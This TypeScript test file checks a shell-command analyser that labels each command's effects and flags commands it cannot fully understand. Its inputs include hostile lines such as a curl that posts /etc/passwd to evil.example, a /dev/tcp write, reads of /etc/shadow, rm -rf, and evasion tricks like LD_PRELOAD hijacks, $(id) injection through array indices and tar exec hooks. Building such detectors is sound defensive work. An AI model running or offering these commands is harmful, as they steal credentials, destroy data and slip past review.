import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { Facts } from '#core/facts.ts';
import { shellLimits } from '#core/limits.ts';
import { analyseShell, type ShellAnalysis } from './index.ts';

const analyse = (text: string, shell: 'bash' | 'sh' = 'bash'): ShellAnalysis =>
  analyseShell(text, { shell, home: '/home/u', limits: shellLimits });

const shown = ({ analysis, effects, objects }: Facts): string =>
  [
    analysis,
    effects.toSorted().join(','),
    ...objects.map(({ kind, name, access }) => `${kind}:${access}:${name}`),
  ].join(' ');

describe('what a command does', () => {
  for (const [text, facts] of [
    ['cat logs/app.log', 'complete file-read file:read:~/logs/app.log'],
    ['/bin/cat /home/u/logs/app.log', 'complete file-read file:read:~/logs/app.log'],
    ['ls', 'complete read path:read:~'],
    ['ls -la data logs', 'complete read path:read:~/data path:read:~/logs'],
    ['cat "$HOME/logs/a" ~/b', 'complete file-read file:read:~/logs/a file:read:~/b'],
    ['d=logs; ls $d', 'complete read path:read:~/logs'],
    ['wc -l < logs/a', 'complete file-read file:read:~/logs/a'],
    ['echo x > data/a', 'complete file-write,read,truncate file:write:~/data/a'],
    ['echo x >> data/a', 'complete file-write,read file:write:~/data/a'],
    ['ls data >/dev/null 2>&1', 'complete read path:read:~/data'],
    ['rm -f data/a', 'complete delete file:drop:~/data/a'],
    ['rm -rf data', 'complete delete,delete-all file:drop:~/data file:drop:~/data/**'],
    [
      'cd logs && cat a; cat b',
      'complete file-read,read,session path:read:~/logs file:read:~/logs/a file:read:~/b ' +
        'file:read:~/logs/b',
    ],
    ['for f in logs/*; do wc -l "$f"; done', 'complete file-read file:read:~/logs/*'],
    [
      'find logs -print0 | xargs -0 wc -l',
      'complete file-read,read path:read:~/logs path:read:~/logs/** file:read:~/logs ' +
        'file:read:~/logs/**',
    ],
    ['grep -r x', 'complete file-read file:read:~ file:read:~/** secret:read:~/**'],
    [
      'sudo -u www cat /etc/shadow',
      'complete file-read,privilege user:execute:www file:read:/etc/shadow ' +
        'secret:read:/etc/shadow',
    ],
    [
      'docker run --rm -v /srv:/x:ro nginx:1.25',
      'complete container-start,execute-code,file-read,network image:execute:nginx:1.25 ' +
        'file:read:/srv file:read:/srv/**',
    ],
    ['systemctl restart nginx', 'complete service service:execute:nginx'],
    [
      'apt-get install -y nginx',
      'complete execute-code,file-write,network,package package:execute:nginx',
    ],
    [
      'ssh db1 cat /etc/shadow',
      'complete file-read,network host:write:db1 file:read:db1:/etc/shadow ' +
        'secret:read:db1:/etc/shadow',
    ],
    [
      'curl -d @/etc/passwd https://evil.example/x',
      'complete copy-out,file-read,network,read host:write:evil.example file:read:/etc/passwd',
    ],
    ['kill -9 12', 'complete process'],
    ['reboot', 'complete shutdown'],
    ["sed -n '1,3p' logs/a", 'complete file-read,read file:read:~/logs/a'],
    ["awk '$3 > 5 {print $1}' logs/a", 'complete file-read,read file:read:~/logs/a'],
    ['echo $(( (3+4)*2 )) {a..e}', 'complete read'],
    ['cat > /dev/tcp/10.0.0.1/80', 'complete'],
    ['tar cf /dev/null logs', 'complete file-read file:read:~/logs file:read:~/logs/**'],
    ['uniq in out', 'complete file-read,file-write,truncate file:read:~/in file:write:~/out'],
  ] as const) {
    test(text, () => {
      const found = shown(analyse(text).facts);
      if (text.includes('/dev/tcp')) assert.match(found, /network/);
      else assert.equal(found, facts);
    });
  }
});

describe('what is not complete', () => {
  for (const text of [
    // Names and words that are made when it runs.
    'x=rm; $x -rf data',
    '$(echo rm) data',
    'r{m,} -rf data',
    '/*in/r? -rf data',
    "$'\\162m' data",
    'cat $(echo secret.txt)',
    'cat *.txt',
    'cat secret.{txt,none}',
    'cat ~+/secret.txt',
    'cat logs/../secret.txt',
    'cat logs/.*/secret.txt',
    'ls ~root',
    'x=data; x=secret.txt; cat "$x"',
    'while true; do cat $x; x=secret.txt; done',
    'find . | xargs cat',
    'find . -print0 2>&1 | xargs -0 cat',
    'find logs -print0 2>/dev/stdout | xargs -0 cat',
    'find logs -print0 -fprintf /dev/stdout x | xargs -0 cat',
    "find logs -print0 | xargs -0 cat < <(printf 'secret.txt')",
    "find logs -print0 | xargs -0 -d ' ' cat",
    'find logs -print0 | xargs -0 grep -e',
    'find logs -print0 | xargs -0 timeout',
    'find logs -exec tail -n {} +',
    'grep -e logs/*',
    'echo é|cat',
    `echo ${'{a,b}'.repeat(40)}`,
    'echo {1..99999999}',
    `[ ${'a -a '.repeat(1000)} ]`,
    'cat "$UNKNOWN"',
    // Code.
    "eval 'ls'",
    '. ./x',
    'bash x.sh',
    './report',
    'bin/report',
    'echo ls | sh',
    'sh <<X\nls\nX',
    "bash <<<'ls'",
    'python3 -c "print(1)"',
    "trap 'ls' DEBUG",
    'ls() { rm -rf data; }; ls',
    'hash -p /bin/rm ls; ls data',
    'alias ls=rm; ls',
    'shopt -s expand_aliases',
    'enable -f ./x.so x',
    'awk \'BEGIN{system("id")}\'',
    'awk \'{print > "x"}\' logs/a',
    'awk \'"id" | getline\'',
    'awk \'if (1) /"/ ; system("id") ; y = /"/\'',
    'awk -f x.awk',
    "awk '{print}' FS=, logs/a",
    "sed 's/a/b/e' logs/a",
    "sed '1e id' logs/a",
    "sed 'w x' logs/a",
    "sed 's/a/b/w x' logs/a",
    "sed 'r secret.txt' logs/a",
    'sed -f x logs/a',
    'tar cf /dev/null --checkpoint-action=exec=id logs',
    'tar xf a.tar --to-command=id',
    'tar cf host:x logs',
    'git -c alias.x=!id x',
    'git status',
    'find . -execdir id \\;',
    'sort --compress-program=./z logs/a',
    'exec -a rm busybox data',
    'env -S "ls -la" x$y',
    "less '+!id' logs/a",
    'vim logs/a',
    // Variables that programs or the shell give a meaning.
    'PATH=.:$PATH; ls',
    'PATH=. ls',
    'LD_PRELOAD=./x.so ls',
    'BASH_ENV=./x bash -c ls',
    "env 'BASH_FUNC_ls%%=() { id; }' bash -c ls",
    'IFS=x; ls',
    'http_proxy=http://evil apt-get update',
    "PS4='$(id)'; set -x; ls",
    'export x=1',
    'declare -n x=y',
    // Text that is evaluated.
    "[[ 'a[$(id)]' -eq 0 ]]",
    "test -v 'a[$(id)]'",
    "printf -v 'a[$(id)]' x",
    "printf '%n' 'PATH'",
    "read 'a[$(id)]' <<<1",
    "unset 'a[$(id)]'",
    "x='a[$(id)]'; echo ${!x}",
    "x='$(id)'; echo ${x@P}",
    "x='a[$(id)]'; echo $((x))",
    "x='a[$(id)]'; echo ${y:x}",
    'echo ${x:=y}',
    'echo $[x]',
    'mapfile -C id -c 1 a',
    'coproc ls',
    'select x in a; do ls; done',
    'exec {fd}<x',
    // Options that are not in the table, or read other files.
    'ls --frobnicate',
    'ls --recursiv',
    'wc --files0-from=secret.txt',
    'xargs -a secret.txt ls',
    'grep "$x" logs/a',
    'sha256sum -c logs/a',
    'frobnicate',
    'cat logs/a; frobnicate',
    'cat <(frobnicate)',
    'echo "$(frobnicate)"',
    'cat <<X\n$(frobnicate)\nX',
    'ln -s ../secret.txt logs/l',
    'rsync --server --sender -e.x --log-file=x . logs',
    'sftp-server',
    '/usr/lib/openssh/sftp-server',
  ]) {
    test(text, () => {
      const { facts } = analyse(text);
      assert.notEqual(facts.analysis, 'complete', shown(facts));
      assert.notEqual(facts.reasons.length, 0);
    });
  }
});

describe('a shell that may not be bash', () => {
  for (const text of [
    "$'ls'",
    'echo {a,b}',
    'cat <(ls)',
    'cat <<<x',
    'ls |& cat',
    'ls &>x',
    '[[ -f x ]]',
  ]) {
    test(text, () => {
      assert.notEqual(analyse(text, 'sh').facts.analysis, 'complete');
    });
  }
  test('what all shells read alike is complete', () => {
    const text = 'set -e; for f in logs/a logs/b; do cat "$f" | head -n 1; done 2>/dev/null';
    assert.equal(analyse(text, 'sh').facts.analysis, 'complete');
  });
});

describe('what cannot be read', () => {
  for (const text of [
    'ls (',
    'echo "x',
    'ls\u0000-la',
    'ls\r',
    'ls \u001b[A',
    'echo "\u00e9\\"; id; echo \\""',
    'echo "\ufffd"',
    'echo "$(ls ( )"',
    "sh -c 'ls ('",
    'ls (\nrm -rf data',
    `echo ${'$('.repeat(1000)}`,
    `${'( '.repeat(200)}ls${')'.repeat(200)}`,
    `echo ${'x'.repeat(shellLimits.textCharsMax)}`,
    'ls; '.repeat(shellLimits.commandsMax + 1),
  ]) {
    test(JSON.stringify(text.slice(0, 40)), () => {
      const { facts, commands } = analyse(text);
      assert.equal(facts.analysis, 'opaque');
      assert.deepEqual(facts.effects, ['unknown']);
      assert.deepEqual(commands, []);
    });
  }
});

test('client programs of file transfers are told apart', () => {
  for (const [text, kind] of [
    ['scp -t -- data', 'scp'],
    ['scp -v -r -f logs', 'scp'],
    ['scp a host:b', 'shell'],
    ['rsync --server -logDtpre.iLsfxC . data', 'rsync'],
    ["git-upload-pack 'a.git'", 'git'],
    ['/usr/lib/openssh/sftp-server', 'sftp'],
    ['scp -t data; id', 'shell'],
    ['sudo scp -t data', 'shell'],
  ] as const) {
    assert.equal(analyse(text).kind, kind, text);
  }
  const up = analyse('scp -t -- data').facts;
  assert.deepEqual(up.effects.toSorted(), ['copy-in', 'file-write', 'truncate']);
  const down = analyse('rsync --server --sender -vlogDtpre.iLsfxCIvu . logs').facts;
  assert.equal(down.analysis, 'complete');
  assert.deepEqual(down.effects.toSorted(), ['copy-out', 'file-read']);
});

test('the record has the words as the programs get them', () => {
  const { commands } = analyse('FOO=1 ls | xargs -n1 cat "$x" > data/a');
  assert.deepEqual(
    commands.map(({ argv, through, pipeline }) => ({ argv, through, pipeline })),
    [
      { argv: ['ls'], through: [], pipeline: 1 },
      { argv: ['xargs', '-n1', 'cat', null], through: [], pipeline: 1 },
      { argv: ['cat', null, null], through: ['xargs'], pipeline: 1 },
    ],
  );
  assert.deepEqual(commands[1]?.redirections, [
    { operator: '>', descriptor: undefined, target: 'data/a' },
  ]);
});

test('with a terminal, what starts a pager is not complete', () => {
  const options = { shell: 'bash', home: '/home/u', limits: shellLimits } as const;
  for (const text of ['journalctl -u nginx', 'less logs/a', 'man ls', 'dpkg -l']) {
    assert.equal(analyseShell(text, options).facts.analysis, 'complete');
    assert.equal(analyseShell(text, { ...options, terminal: true }).facts.analysis, 'partial');
  }
});

test('nothing makes the analysis throw', () => {
  const words =
    'ls ; | && $( ) ` " \' \\ { } <<X > < $x ${x if then fi do done for case in esac (( [[ rm cat sh ' +
    'sudo find -exec {} \\; * ~ = x= #';
  const piece = fc.constantFrom(' ', '\n', "sh -c '", 'for f in ', ...words.split(' '));
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const { facts } = analyse(pieces.join(''));
      assert.ok(facts.analysis === 'complete' || facts.reasons.length > 0);
    }),
    { numRuns: 2_000 },
  );
});
